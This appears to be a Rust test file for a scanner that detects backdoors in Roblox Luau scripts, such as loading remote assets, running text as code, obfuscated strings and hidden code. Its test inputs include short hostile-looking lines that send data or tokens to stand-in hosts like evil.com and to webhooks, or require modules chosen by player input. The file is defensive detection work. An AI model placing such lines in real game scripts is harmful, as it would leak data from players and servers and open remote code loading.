//! Tests of the scan: one case for each kind of finding, and a similar harmless one.

mod effects;
mod following;

use random_draws::RandomDraws;

use super::*;

/// The messages of a script's findings, without line numbers.
fn said(source: &str) -> Vec<String> {
    let sentence = |it: &ScanFinding| format!("{}.", it.message);
    scan_script(source).iter().map(sentence).collect()
}

fn sentences(source: &str) -> Vec<String> {
    scan_script(source).iter().map(ToString::to_string).collect()
}

#[track_caller]
fn check(source: &str, expected: &[&str]) {
    assert_eq!(said(source), expected, "{source}");
}

/// Expects a single finding whose message contains `words`.
#[track_caller]
fn names(source: &str, words: &str) {
    let said = said(source);
    assert!(said.len() == 1 && said[0].contains(words), "{source}: {said:?}");
}

#[test]
fn code_from_strings_and_environments_is_flagged() {
    assert_eq!(
        sentences("\nloadstring(x)()"),
        ["Line 2 uses loadstring, which runs text as code."]
    );
    check("_G[\"loadstring\"](x)", &["uses loadstring, which runs text as code."]);
    names("x = `{getfenv()}`", "uses getfenv");
    names("setfenv(1, {})", "uses setfenv");
    names("getfenv()[\"x\"]()", "uses getfenv");
    names("_G[string.char(a, b)](1)", "looks into _G for a name that is put together");
    names("shared[table.concat(t)](1)", "looks into shared");
    names("m.LinkedSource = url", "LinkedSource");
}

#[test]
fn outside_assets_are_flagged() {
    let asset = "requires the asset 123456, code from outside the place.";
    for source in [
        "require(123456)",
        "require (123456):Fire()",
        "require((123456))",
        "require(tonumber(\"123456\"))",
        "pcall(require, 123456)",
        "local id = 123456\ntask.spawn(require, id)",
        "local id = 123456 require(id)",
        "local r = require\nr(123456)",
        "_G[\"require\"](123456)",
    ] {
        check(source, &[asset]);
    }
    names("game:GetObjects(id)", "uses GetObjects");
    names("game:GetService(\"InsertService\"):LoadAsset(5)", "uses LoadAsset,");
    for source in [
        "require(script.Parent.M)",
        "require(\"./M\")",
        "local id = 1 require(id.M)",
        "local text = require \"./text\" text(1)",
        "local id = 5 id = script.M require(id.X)",
        "function Loader:LoadAsset(id) end",
        "local t = { LoadAsset = f }",
    ] {
        check(source, &[]);
    }
}

#[test]
fn http_findings_name_the_recipient() {
    let http = "local Web = game:GetService(\"HttpService\")\n";
    let at = |call: &str| format!("{http}{call}");
    let hidden = "an address that is not in this script on the internet";
    names("http:RequestAsync({})", hidden);
    names("http:PostAsync(url, data)", hidden);
    names(&at("Web:GetAsync(url)"), hidden);
    names("game:GetService(\"HttpService\"):GetAsync(url)", hidden);
    names("http:PostAsync(\"https://\" .. evil .. \"/roblox.com\", x)", hidden);
    names("http:PostAsync(`https://{evil}.com/`, x)", hidden);
    let escaped = said("http:GetAsync(\"https://\\101vil.com/\")");
    assert!(escaped.len() == 2 && escaped[0].contains("fetches from evil.com on"), "{escaped:?}");
    assert!(escaped[1].contains("writes \"https://evil.com/\" with"), "{escaped:?}");
    names("http:GetAsync(\"https://a.b.example/x?y=\" .. z)", "fetches from a.b.example on");
    names("http:RequestAsync({ Method = \"POST\", Url = \"https://C.d:443/\" })", "to c.d on");
    names("http:PostAsync(\"https://roblox.com@evil.com/\", x)", "to evil.com on");
    names("http:PostAsync(\"https://evilroblox.com\", x)", "to evilroblox.com on");
    let hook = "https://hooks.example/api/webhooks/1/x";
    names(&format!("http:PostAsync(\"{hook}\", x)"), "to a webhook at hooks.example");
    names(&format!("local HOOK = \"{hook}\"\nhttp:PostAsync(HOOK, x)"), "a webhook at hooks");
    names("game:HttpGet(u)", "uses HttpGet");
    names("game:HttpGetAsync(u)", "uses HttpGet");
    names("Web.HttpEnabled = true", "HttpEnabled");
}

#[test]
fn usual_hosts_and_data_stores_are_not_flagged() {
    for source in [
        "http:PostAsync(\"https://apis.roblox.com/messaging\", x)",
        "http:RequestAsync({ Url = \"https://api.gameanalytics.com/v2/\" .. key })",
        "local URL = \"https://apis.roblox.com/x\"\nhttp:GetAsync(URL)\nhttp:PostAsync(URL, x)",
        "store:GetAsync(key)",
        "local Http = game:GetService(\"HttpService\")\nlocal s = Http:JSONEncode(x)\nstore:GetAsync(key)",
        "game:GetService(\"HttpService\")\nlocal k = DataStoreService:GetDataStore(\"a\")\nk:GetAsync(1)",
        "function Mock:GetAsync(key) end\nlocal t = { PostAsync = f }",
    ] {
        check(source, &[]);
    }
    // An address that looks usual may be changed before it is used.
    let url = "local URL = \"https://apis.roblox.com/x\"\n";
    for source in
        ["URL = evil\nhttp:PostAsync(URL, x)", "for _, URL in t do http:PostAsync(URL) end"]
    {
        assert_eq!(said(&format!("{url}{source}")).len(), 1, "{source}");
    }
    names(
        "local o = { Referer = \"https://roblox.com\" }\nhttp:RequestAsync(o)",
        "is not in this script",
    );
    let two = "http:RequestAsync({ Url = \"https://roblox.com\", [\"Url\"] = evil })";
    names(two, "is not in this script");
}

#[test]
fn purchase_prompts_and_teleports_are_flagged() {
    names("M:PromptPurchase(player, 4147951000)", "asks players to buy the item 4147951000");
    names("M:PromptGamePassPurchase(player, id)", "asks players to buy something");
    names("local ID = 12345 M:PromptProductPurchase(p, ID)", "the item 12345");
    names("game.TeleportService:Teleport(99999, p)", "sends players to the place 99999");
    check("M.PromptPurchaseFinished:Connect(f) function x:PromptPurchase() end", &[]);
    check("T = TeleportService T:TeleportAsync(game.PlaceId, { p })", &[]);
    check("pad:Teleport(5)", &[]);
}

#[test]
fn obfuscated_strings_are_flagged() {
    let numbers = "writes \"require\" with the numbers of its characters.";
    check(r#"x = "\114\101\113\117\105\114\101""#, &[numbers]);
    check(r#"x = "\x72equire""#, &[numbers]);
    check(r#"x = "\xab \x72equire""#, &[numbers]);
    check(r#"x = "\u{72}equire""#, &[numbers]);
    let list = "writes \"require\" as a list of numbers.";
    check("f(string.char(114, 101, 113, 117, 105, 114, 101))", &[list]);
    check("c(0x72, 0x65, 0x71, 0x75, 0x69, 0x72, 0x65) c.char()", &[]);
    names(
        "t = {104,101,108,108,111,32,119,111,114,108,100,104} string.char(unpack(t))",
        "\"hello worldh\" as a list of numbers",
    );
    check("x = string.reverse(\"eriuqer\")", &["writes \"require\" backwards."]);
    check("x = (\"eriuqer\"):reverse()", &["writes \"require\" backwards."]);
    check("local x = \"gnirtsdaol\" x = x:reverse()", &["writes \"loadstring\" backwards."]);
    check("x = \"load\" .. \"str\" .. \"ing\"", &["writes \"loadstring\" in pieces."]);
    check("x = table.concat({ \"get\", \"fenv\" })", &["writes \"getfenv\" in pieces."]);
    names("x = \"6c6f6164737472696e672829\"", "\"loadstring()\" in hexadecimal");
    names("x = \"%72%65%71%75%69%72%65\"", "\"require\" in hexadecimal");
    names("x = \"cmVxdWlyZSgxMjMp\"", "writes \"require(123)\" in base64");
    let base64 = "aGVsbG8+".repeat(25);
    names(&format!("x = '{base64}'"), "holds 200 characters of encoded text");
    names(&format!("x = \"{}\"", r"\204".repeat(40)), "a string of 40 escaped characters");
    let bytes: Vec<_> = (0..90).map(|n| (n * 7 % 80 + 9).to_string()).collect();
    let decoder = format!("t = {{{}}} string.char(bit32.bxor(t[1], 5))", bytes.join(","));
    names(&decoder, "holds 90 bytes that are decoded as it runs");
}

#[test]
fn tables_ciphers_and_foreign_text_are_not_flagged() {
    let distinct: Vec<_> = (0..256).map(|n| (n * 7 % 256).to_string()).collect();
    let few: Vec<_> = (0..256).map(|n| (n % 16).to_string()).collect();
    for table in [distinct, few] {
        let cipher = format!("t = {{{}}} string.char(bit32.bxor(t[1], 5))", table.join(","));
        check(&cipher, &[]);
    }
    for source in [
        "print('getfenv', \"loadstring\") -- loadstring(x)",
        r#"x = "\226\128\162 \27[31m \0 a\n\t😀""#,
        r#"bytes = "\xAB\x72equired\x20""#,
        r#"bytes = "\xAB\x68\x65\x6C\x6C\x6F\x20\x77""#,
        "x = string.char(0xEF, 0xBB, 0xBF) y = string.char(65 + i, 90)",
        "levels = {100, 110, 120, 105, 115, 101, 111, 90, 95, 100, 100, 99}",
        "hash = \"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\"",
        "id = \"rbxassetid://76543210987654\" x = \"https://\" .. \"a\"",
        "x = \"words and\" .. \" words\" x:reverse()",
        "x = \"Administrator\" y = \"abcdefghijklmnopqrstuvwxyz012345\"",
    ] {
        check(source, &[]);
    }
    check(&format!("-- {}", "a".repeat(300)), &[]);
    check(&"f('words and', words) ".repeat(60), &[]);
}

#[test]
fn code_hidden_by_layout_or_lookalike_names_is_flagged() {
    let far = format!("x = 1{}f()", " ".repeat(150));
    names(&far, "has code 150 columns to the right");
    names(&format!("x = 1\n{}f()", "\t".repeat(40)), "160 columns to the right");
    names(&format!("x = 1 --[[{}]] f()", "-".repeat(150)), "columns to the right");
    names(&format!("x = 1{}f()", "\n".repeat(200)), "behind 199 empty lines");
    names(&format!("x = 1 {}", "a(b) ".repeat(400)), "2006 characters of code");
    names("local IlIIlIlI = 1", "names like IlIIlIlI");
    check(&format!("x = 1{}-- far", " ".repeat(300)), &[]);
    check(&format!("t = {{ {} }}", "'a text', 5, ".repeat(300)), &[]);
    check(&format!("{}f()", "-- a comment\n\n".repeat(60)), &[]);
    check("local Ill, O0 = 1, 2", &[]);
}

#[test]
fn invisible_characters_are_flagged() {
    let said = "Line 2 has the character U+202E, which shows text in another order.";
    assert_eq!(sentences("x = 1\n-- \u{202e}2 = x"), [said]);
    names("x = \"Script\u{200b}\"", "the invisible character U+200B");
    names("x = \"\u{e0041}\u{e0042}\"", "U+E0041");
    names("x = \"a\u{feff}\"", "U+FEFF");
    check("\u{feff}x = \"👩\u{200d}🚀 می\u{200c}شود 🏴\u{e0067}\u{e0062}\u{e007f} é\"", &[]);
}

#[test]
fn studio_checks_are_flagged_only_beside_other_findings() {
    let source = "if RunService:IsStudio() then return end";
    check(source, &[]);
    let said = said(&format!("{source}\nrequire(123456)"));
    assert!(said.len() == 2 && said[0].contains("(IsStudio)"), "{said:?}");
}

#[track_caller]
fn check_change(before: &str, after: &str, expected: &[&str]) {
    let found: Vec<_> = scan_change(before, after).iter().map(ToString::to_string).collect();
    assert_eq!(found, expected, "{before} -> {after}");
}

#[test]
fn only_added_findings_are_new() {
    let old = "local env = getfenv()\nprint(1)";
    check_change(old, "\n\nlocal env = getfenv()\nprint(2)", &[]);
    let second = "Line 3 uses getfenv, which reaches into the environment of other code.";
    check_change(old, "local env = getfenv()\nprint(1)\ngetfenv().x = 1", &[second]);
    // A different host is a new finding, even on the same line.
    let post = |host: &str| format!("http:PostAsync(\"https://{host}/\", x)");
    assert_eq!(scan_change(&post("a.example"), &post("b.example")).len(), 1);
}

#[test]
fn changes_inside_flagged_code_are_new() {
    let run = "Line 1 uses loadstring, which runs text as code.";
    check_change("loadstring('print(1)')()", "loadstring(game.X.Value)()", &[run]);
    check_change("loadstring('print(1)')()", "loadstring( \"print(1)\" ) (  ) -- a", &[]);
    // A changed argument that is defined in another statement.
    let run = "Line 2 uses loadstring, which runs text as code.";
    check_change("local t = 'a'\nloadstring(t)()", "local t = x.Value\nloadstring(t)()", &[run]);
    check_change(
        "local t = 'a'\nloadstring(t)()",
        "local t = 'a' local u = 2\nloadstring(t)()",
        &[],
    );
    let sends = "local function send(url, data)\n\thttp:PostAsync(url, data)\nend\n";
    let first = "send(\"https://a.example/log\", 1)\n";
    let call = "Line 5 calls send, which sends data to";
    let change = |before: &str, after: &str| scan_change(before, after);
    let second = |data: &str| {
        let again = format!("{sends}{first}send(\"https://a.example/log\", {data})");
        change(&[sends, first].concat(), &again)
    };
    let found = second("game.JobId");
    assert!(found.len() == 1 && found[0].to_string().starts_with(call), "{found:?}");
    // The function now sends to another recipient.
    assert_eq!(change(&[sends, first].concat(), &[sends, first, "send(URL, 1)"].concat()).len(), 1);
    let payload = "local p = {}\np.a = 1\nhttp:PostAsync(\"https://a.example/\", p)";
    assert_eq!(change(payload, &payload.replace("p.a = 1", "p.a = token")).len(), 1);
    assert_eq!(change(payload, &payload.replace("p.a = 1", "p.a = 1 -- one")), []);
    // A condition that is now true.
    let off = "if false then\n\trequire(123456)\nend";
    assert_eq!(change(off, &off.replace("false", "true")).len(), 1);
    assert_eq!(change(off, &off.replace("end", "end print(1)")), []);
    // A new call of an unchanged function.
    let leak = "local function leak()\n\thttp:PostAsync(URL, game.JobId)\nend\n";
    check_change(
        leak,
        &[leak, "leak()"].concat(),
        &[
            "Line 4 calls leak, which sends data to an address that is not in this script on the internet (PostAsync).",
        ],
    );
    check_change(&[leak, "leak()"].concat(), &[leak, "print(1)\nleak()"].concat(), &[]);
}

#[test]
fn cards_state_the_number_of_omitted_findings() {
    let said = format_findings(scan_script(&"getfenv()\n".repeat(35)));
    assert_eq!(said.len(), 31);
    assert_eq!(said[30], "5 more places are like these; read all of it.");
}

#[test]
fn values_are_traced_to_their_uses() {
    let asset = "requires the asset 8265423423, code from outside the place.";
    for source in [
        "(require)(8265423423)",
        "require(8265423423 :: any)",
        "require(nil or 8265423423)",
        "require(true and 8265423423)",
        "require(if x then 8265423423 else y)",
        "require(- -8265423423)",
        "require(math.floor(8265423423.2))",
        "require(\"8265423423\" * 1)",
        "xpcall(require, print, 8265423423)",
        "coroutine.wrap(require)(8265423423)",
        "select(1, require)(8265423423)",
        "require(tonumber(table.concat({ \"82654\", \"23423\" })))",
        "require(tonumber(`8265{423423}`))",
        "local c = { Module = 8265423423 } require(c.Module)",
        "local c = { 8265423423 } require(c[1])",
        "local c = {} c.Module = 8265423423 require(c.Module)",
        "local function id() return 8265423423 end require(id())",
        "for _, id in { 8265423423 } do require(id) end",
        "local function load(id) return require(id) end load(8265423423)",
    ] {
        let said = said(source);
        assert!(said.contains(&asset.to_owned()), "{source}: {said:?}");
    }
    assert_eq!(said("({ require })[1](8265423423)").len(), 2);
    for source in [
        "return require",
        "local t = { require, 5 }",
        "f(require)",
        "m.load = require",
        "local load = require t[1] = load",
        "local load = require f(load)",
    ] {
        names(source, "passes on require itself");
    }
    let far = |source: &str, from: &str| {
        names(source, &format!("requires a module that comes from {from}"));
    };
    far("remote.OnServerEvent:Connect(function(_, id) require(id) end)", "what a player's client");
    far("p.Chatted:Connect(function(m) require(tonumber(m:sub(5))) end)", "a chat message");
    far("local id = store:GetAsync('id') require(id)", "a data store");
    far("require(script:GetAttribute('Id'))", "an attribute");
    names("require(tonumber(x))", "by a number that is worked out");
    names("Assets:LoadAssetAsync(id)", "uses LoadAssetAsync");
    names("local m = \"PostAsync\" h[m](h, \"https://evil.com/\", x)", "sends data to evil.com");
    names("pcall(h.PostAsync, h, \"https://evil.com/\", x)", "sends data to evil.com");
    names("x = (\"%s%s\"):format(\"Post\", \"Async\")", "writes \"PostAsync\" in pieces");
    names("x = `{\"Http\"}Service`", "writes \"HttpService\" in pieces");
    names("x = \"load\\z\n   string\"", "writes \"loadstring\" in pieces");
    names(
        "t = string.char(107 + 1, 111, 97, 100, 115, 116, 114, 105, 110, 103)",
        "writes \"loadstring\" as a list",
    );
    for source in [
        "local ok, m = pcall(require, script.M) return m",
        "local require = require require(script.M)",
        "local load = require(script.Loader) load(5)",
        "for _, m in folder:GetChildren() do require(m) end",
        "require(script.Ref.Value)",
        "require(script.Text)",
        "local function Loader() end local t = { LoadAsset = Loader } t.LoadAsset(5)",
    ] {
        check(source, &[]);
    }
}

#[test]
fn deep_or_broken_scripts_are_reported() {
    let deep = format!("return {}1{}", "(".repeat(900), ")".repeat(900));
    names(&deep, "nested too deeply");
    let said = said("loadstring(x)( local");
    assert!(said.len() == 2 && said[1].contains("uses loadstring"), "{said:?}");
    // Luau ends a comment at a lone carriage return.
    names("-- a\rrequire(123456)", "requires the asset 123456");
}

/// Every expression is evaluated at most once, regardless of what depends on it.
/// The parser takes the call for a part of a string and sees as many tokens as Luau.
#[test]
fn scripts_that_the_parser_reads_otherwise_are_reported() {
    let hidden = "local a = `\\z` require(123) local b = `; local c = \"` .. \"local d = \" --\"";
    names(hidden, "has syntax that could not be looked through");
    check("local a = `\\u{41}` .. '\\u{41}' .. `\\u{41}{b}`", &[]);
}

#[test]
fn scan_terminates_on_self_referential_values() {
    let work = || {
        let lines = |line: fn(usize) -> String| (1..2_000).map(line).collect::<Vec<_>>().concat();
        let chain = lines(|n| format!("local a{n} = a{}\n", n - 1));
        assert_eq!(said(&format!("local a0 = require\n{chain}a1999(123456)")).len(), 1);
        let back = lines(|n| format!("function f{n}(x) return f{}(x) end\n", n + 1));
        said(&format!("{back}require(f1(1))"));
        said("local t = {} t.t = t t.t.t.t.x = t local a = a or a a = a .. a require(a)");
        said(&format!("local x = \"{}\"\n{}", "a".repeat(400), "x = x .. x\n".repeat(3_000)));
        said(&"h[m](h, x)\n".repeat(10_000));
        let nest = format!("{}require(1){}", "do ".repeat(90), " end".repeat(90));
        assert_eq!(said(&nest).len(), 1);
        said(&format!("return {}1{}", "{ x = ".repeat(90), " }".repeat(90)));
        said(&format!("return f{}", "(function() return g end)(1)".repeat(2_000)));
        said(&format!("x = {}1", "1 .. ".repeat(900)));
        said(&format!("local t = {{ {} }}\n{}", "a=1,".repeat(10_000), "t.a()\n".repeat(20_000)));
        said(&"x.OnServerInvoke = f\n".repeat(9_000));
        let named = "x = y\ny = x\n".repeat(5_000);
        said(&format!("x = function(a) h:PostAsync(a) end\n{named}"));
        said(&format!("local t = {{}}\n{}", lines(|n| format!("t[{n}] = x\nf(t[{n}], t[k])\n"))));
    };
    let stack = std::thread::Builder::new().stack_size(64 << 20);
    stack.spawn(work).unwrap().join().unwrap();
}

#[test]
fn imitated_service_names_are_found() {
    for (name, known) in [
        ("ReplicatedStorgae", "ReplicatedStorage"),
        ("ReplicatedStorge", "ReplicatedStorage"),
        ("Server Script Service", "ServerScriptService"),
        ("Server_Storage", "ServerStorage"),
        ("HttpServlce", "HttpService"),
        ("HttрService", "HttpService"),
        ("Http\u{200b}Service", "HttpService"),
        ("HtttpService", "HttpService"),
        ("InsertSevice", "InsertService"),
        ("Wоrkspace", "Workspace"),
        ("W0rkspace", "Workspace"),
        ("Workspace\u{200b}", "Workspace"),
        ("Wrokspace", "Workspace"),
        ("MarketplaceServlce", "MarketplaceService"),
        ("RunServce", "RunService"),
        ("TeleportServicee", "TeleportService"),
        ("Ｌighting", "Lighting"),
    ] {
        assert_eq!(find_imitated_service(name), Some(known), "{name}");
    }
    for name in [
        "HttpService",
        "Lighting",
        "Lightning",
        "Lighting2",
        "lighting",
        "workspace",
        "Workspace1",
        "RoundService",
        "GunService",
        "DataService",
        "PlayerService",
        "CollectionsService",
        "StarterPlayers",
        "AssetService",
        "Part",
        "",
        "Players",
        "部品",
        "Main",
        "replicatedStorage",
        "ServerScripts",
        "SoundServiceClient",
        "RunServices",
    ] {
        assert_eq!(find_imitated_service(name), None, "{name}");
    }
}

#[test]
fn random_scripts_do_not_panic() {
    let pieces = [
        "require",
        "(",
        ")",
        "[",
        "]",
        "{",
        "}",
        "\"",
        "\\",
        "\\x",
        "\\u{",
        "..",
        "=",
        ",",
        "1",
        "x",
        "PostAsync",
        ":",
        "Url",
        "string.char(",
        "\n",
        " ",
        "é",
        "😀",
        "\u{202e}",
        "--",
        "[[",
        "`",
    ];
    let mut draws = RandomDraws::from_seed(7);
    for _ in 0..4_000 {
        let source: String = (0..24).map(|_| draws.pick(&pieces)).collect();
        scan_script(&source);
        find_imitated_service(&source);
    }
}
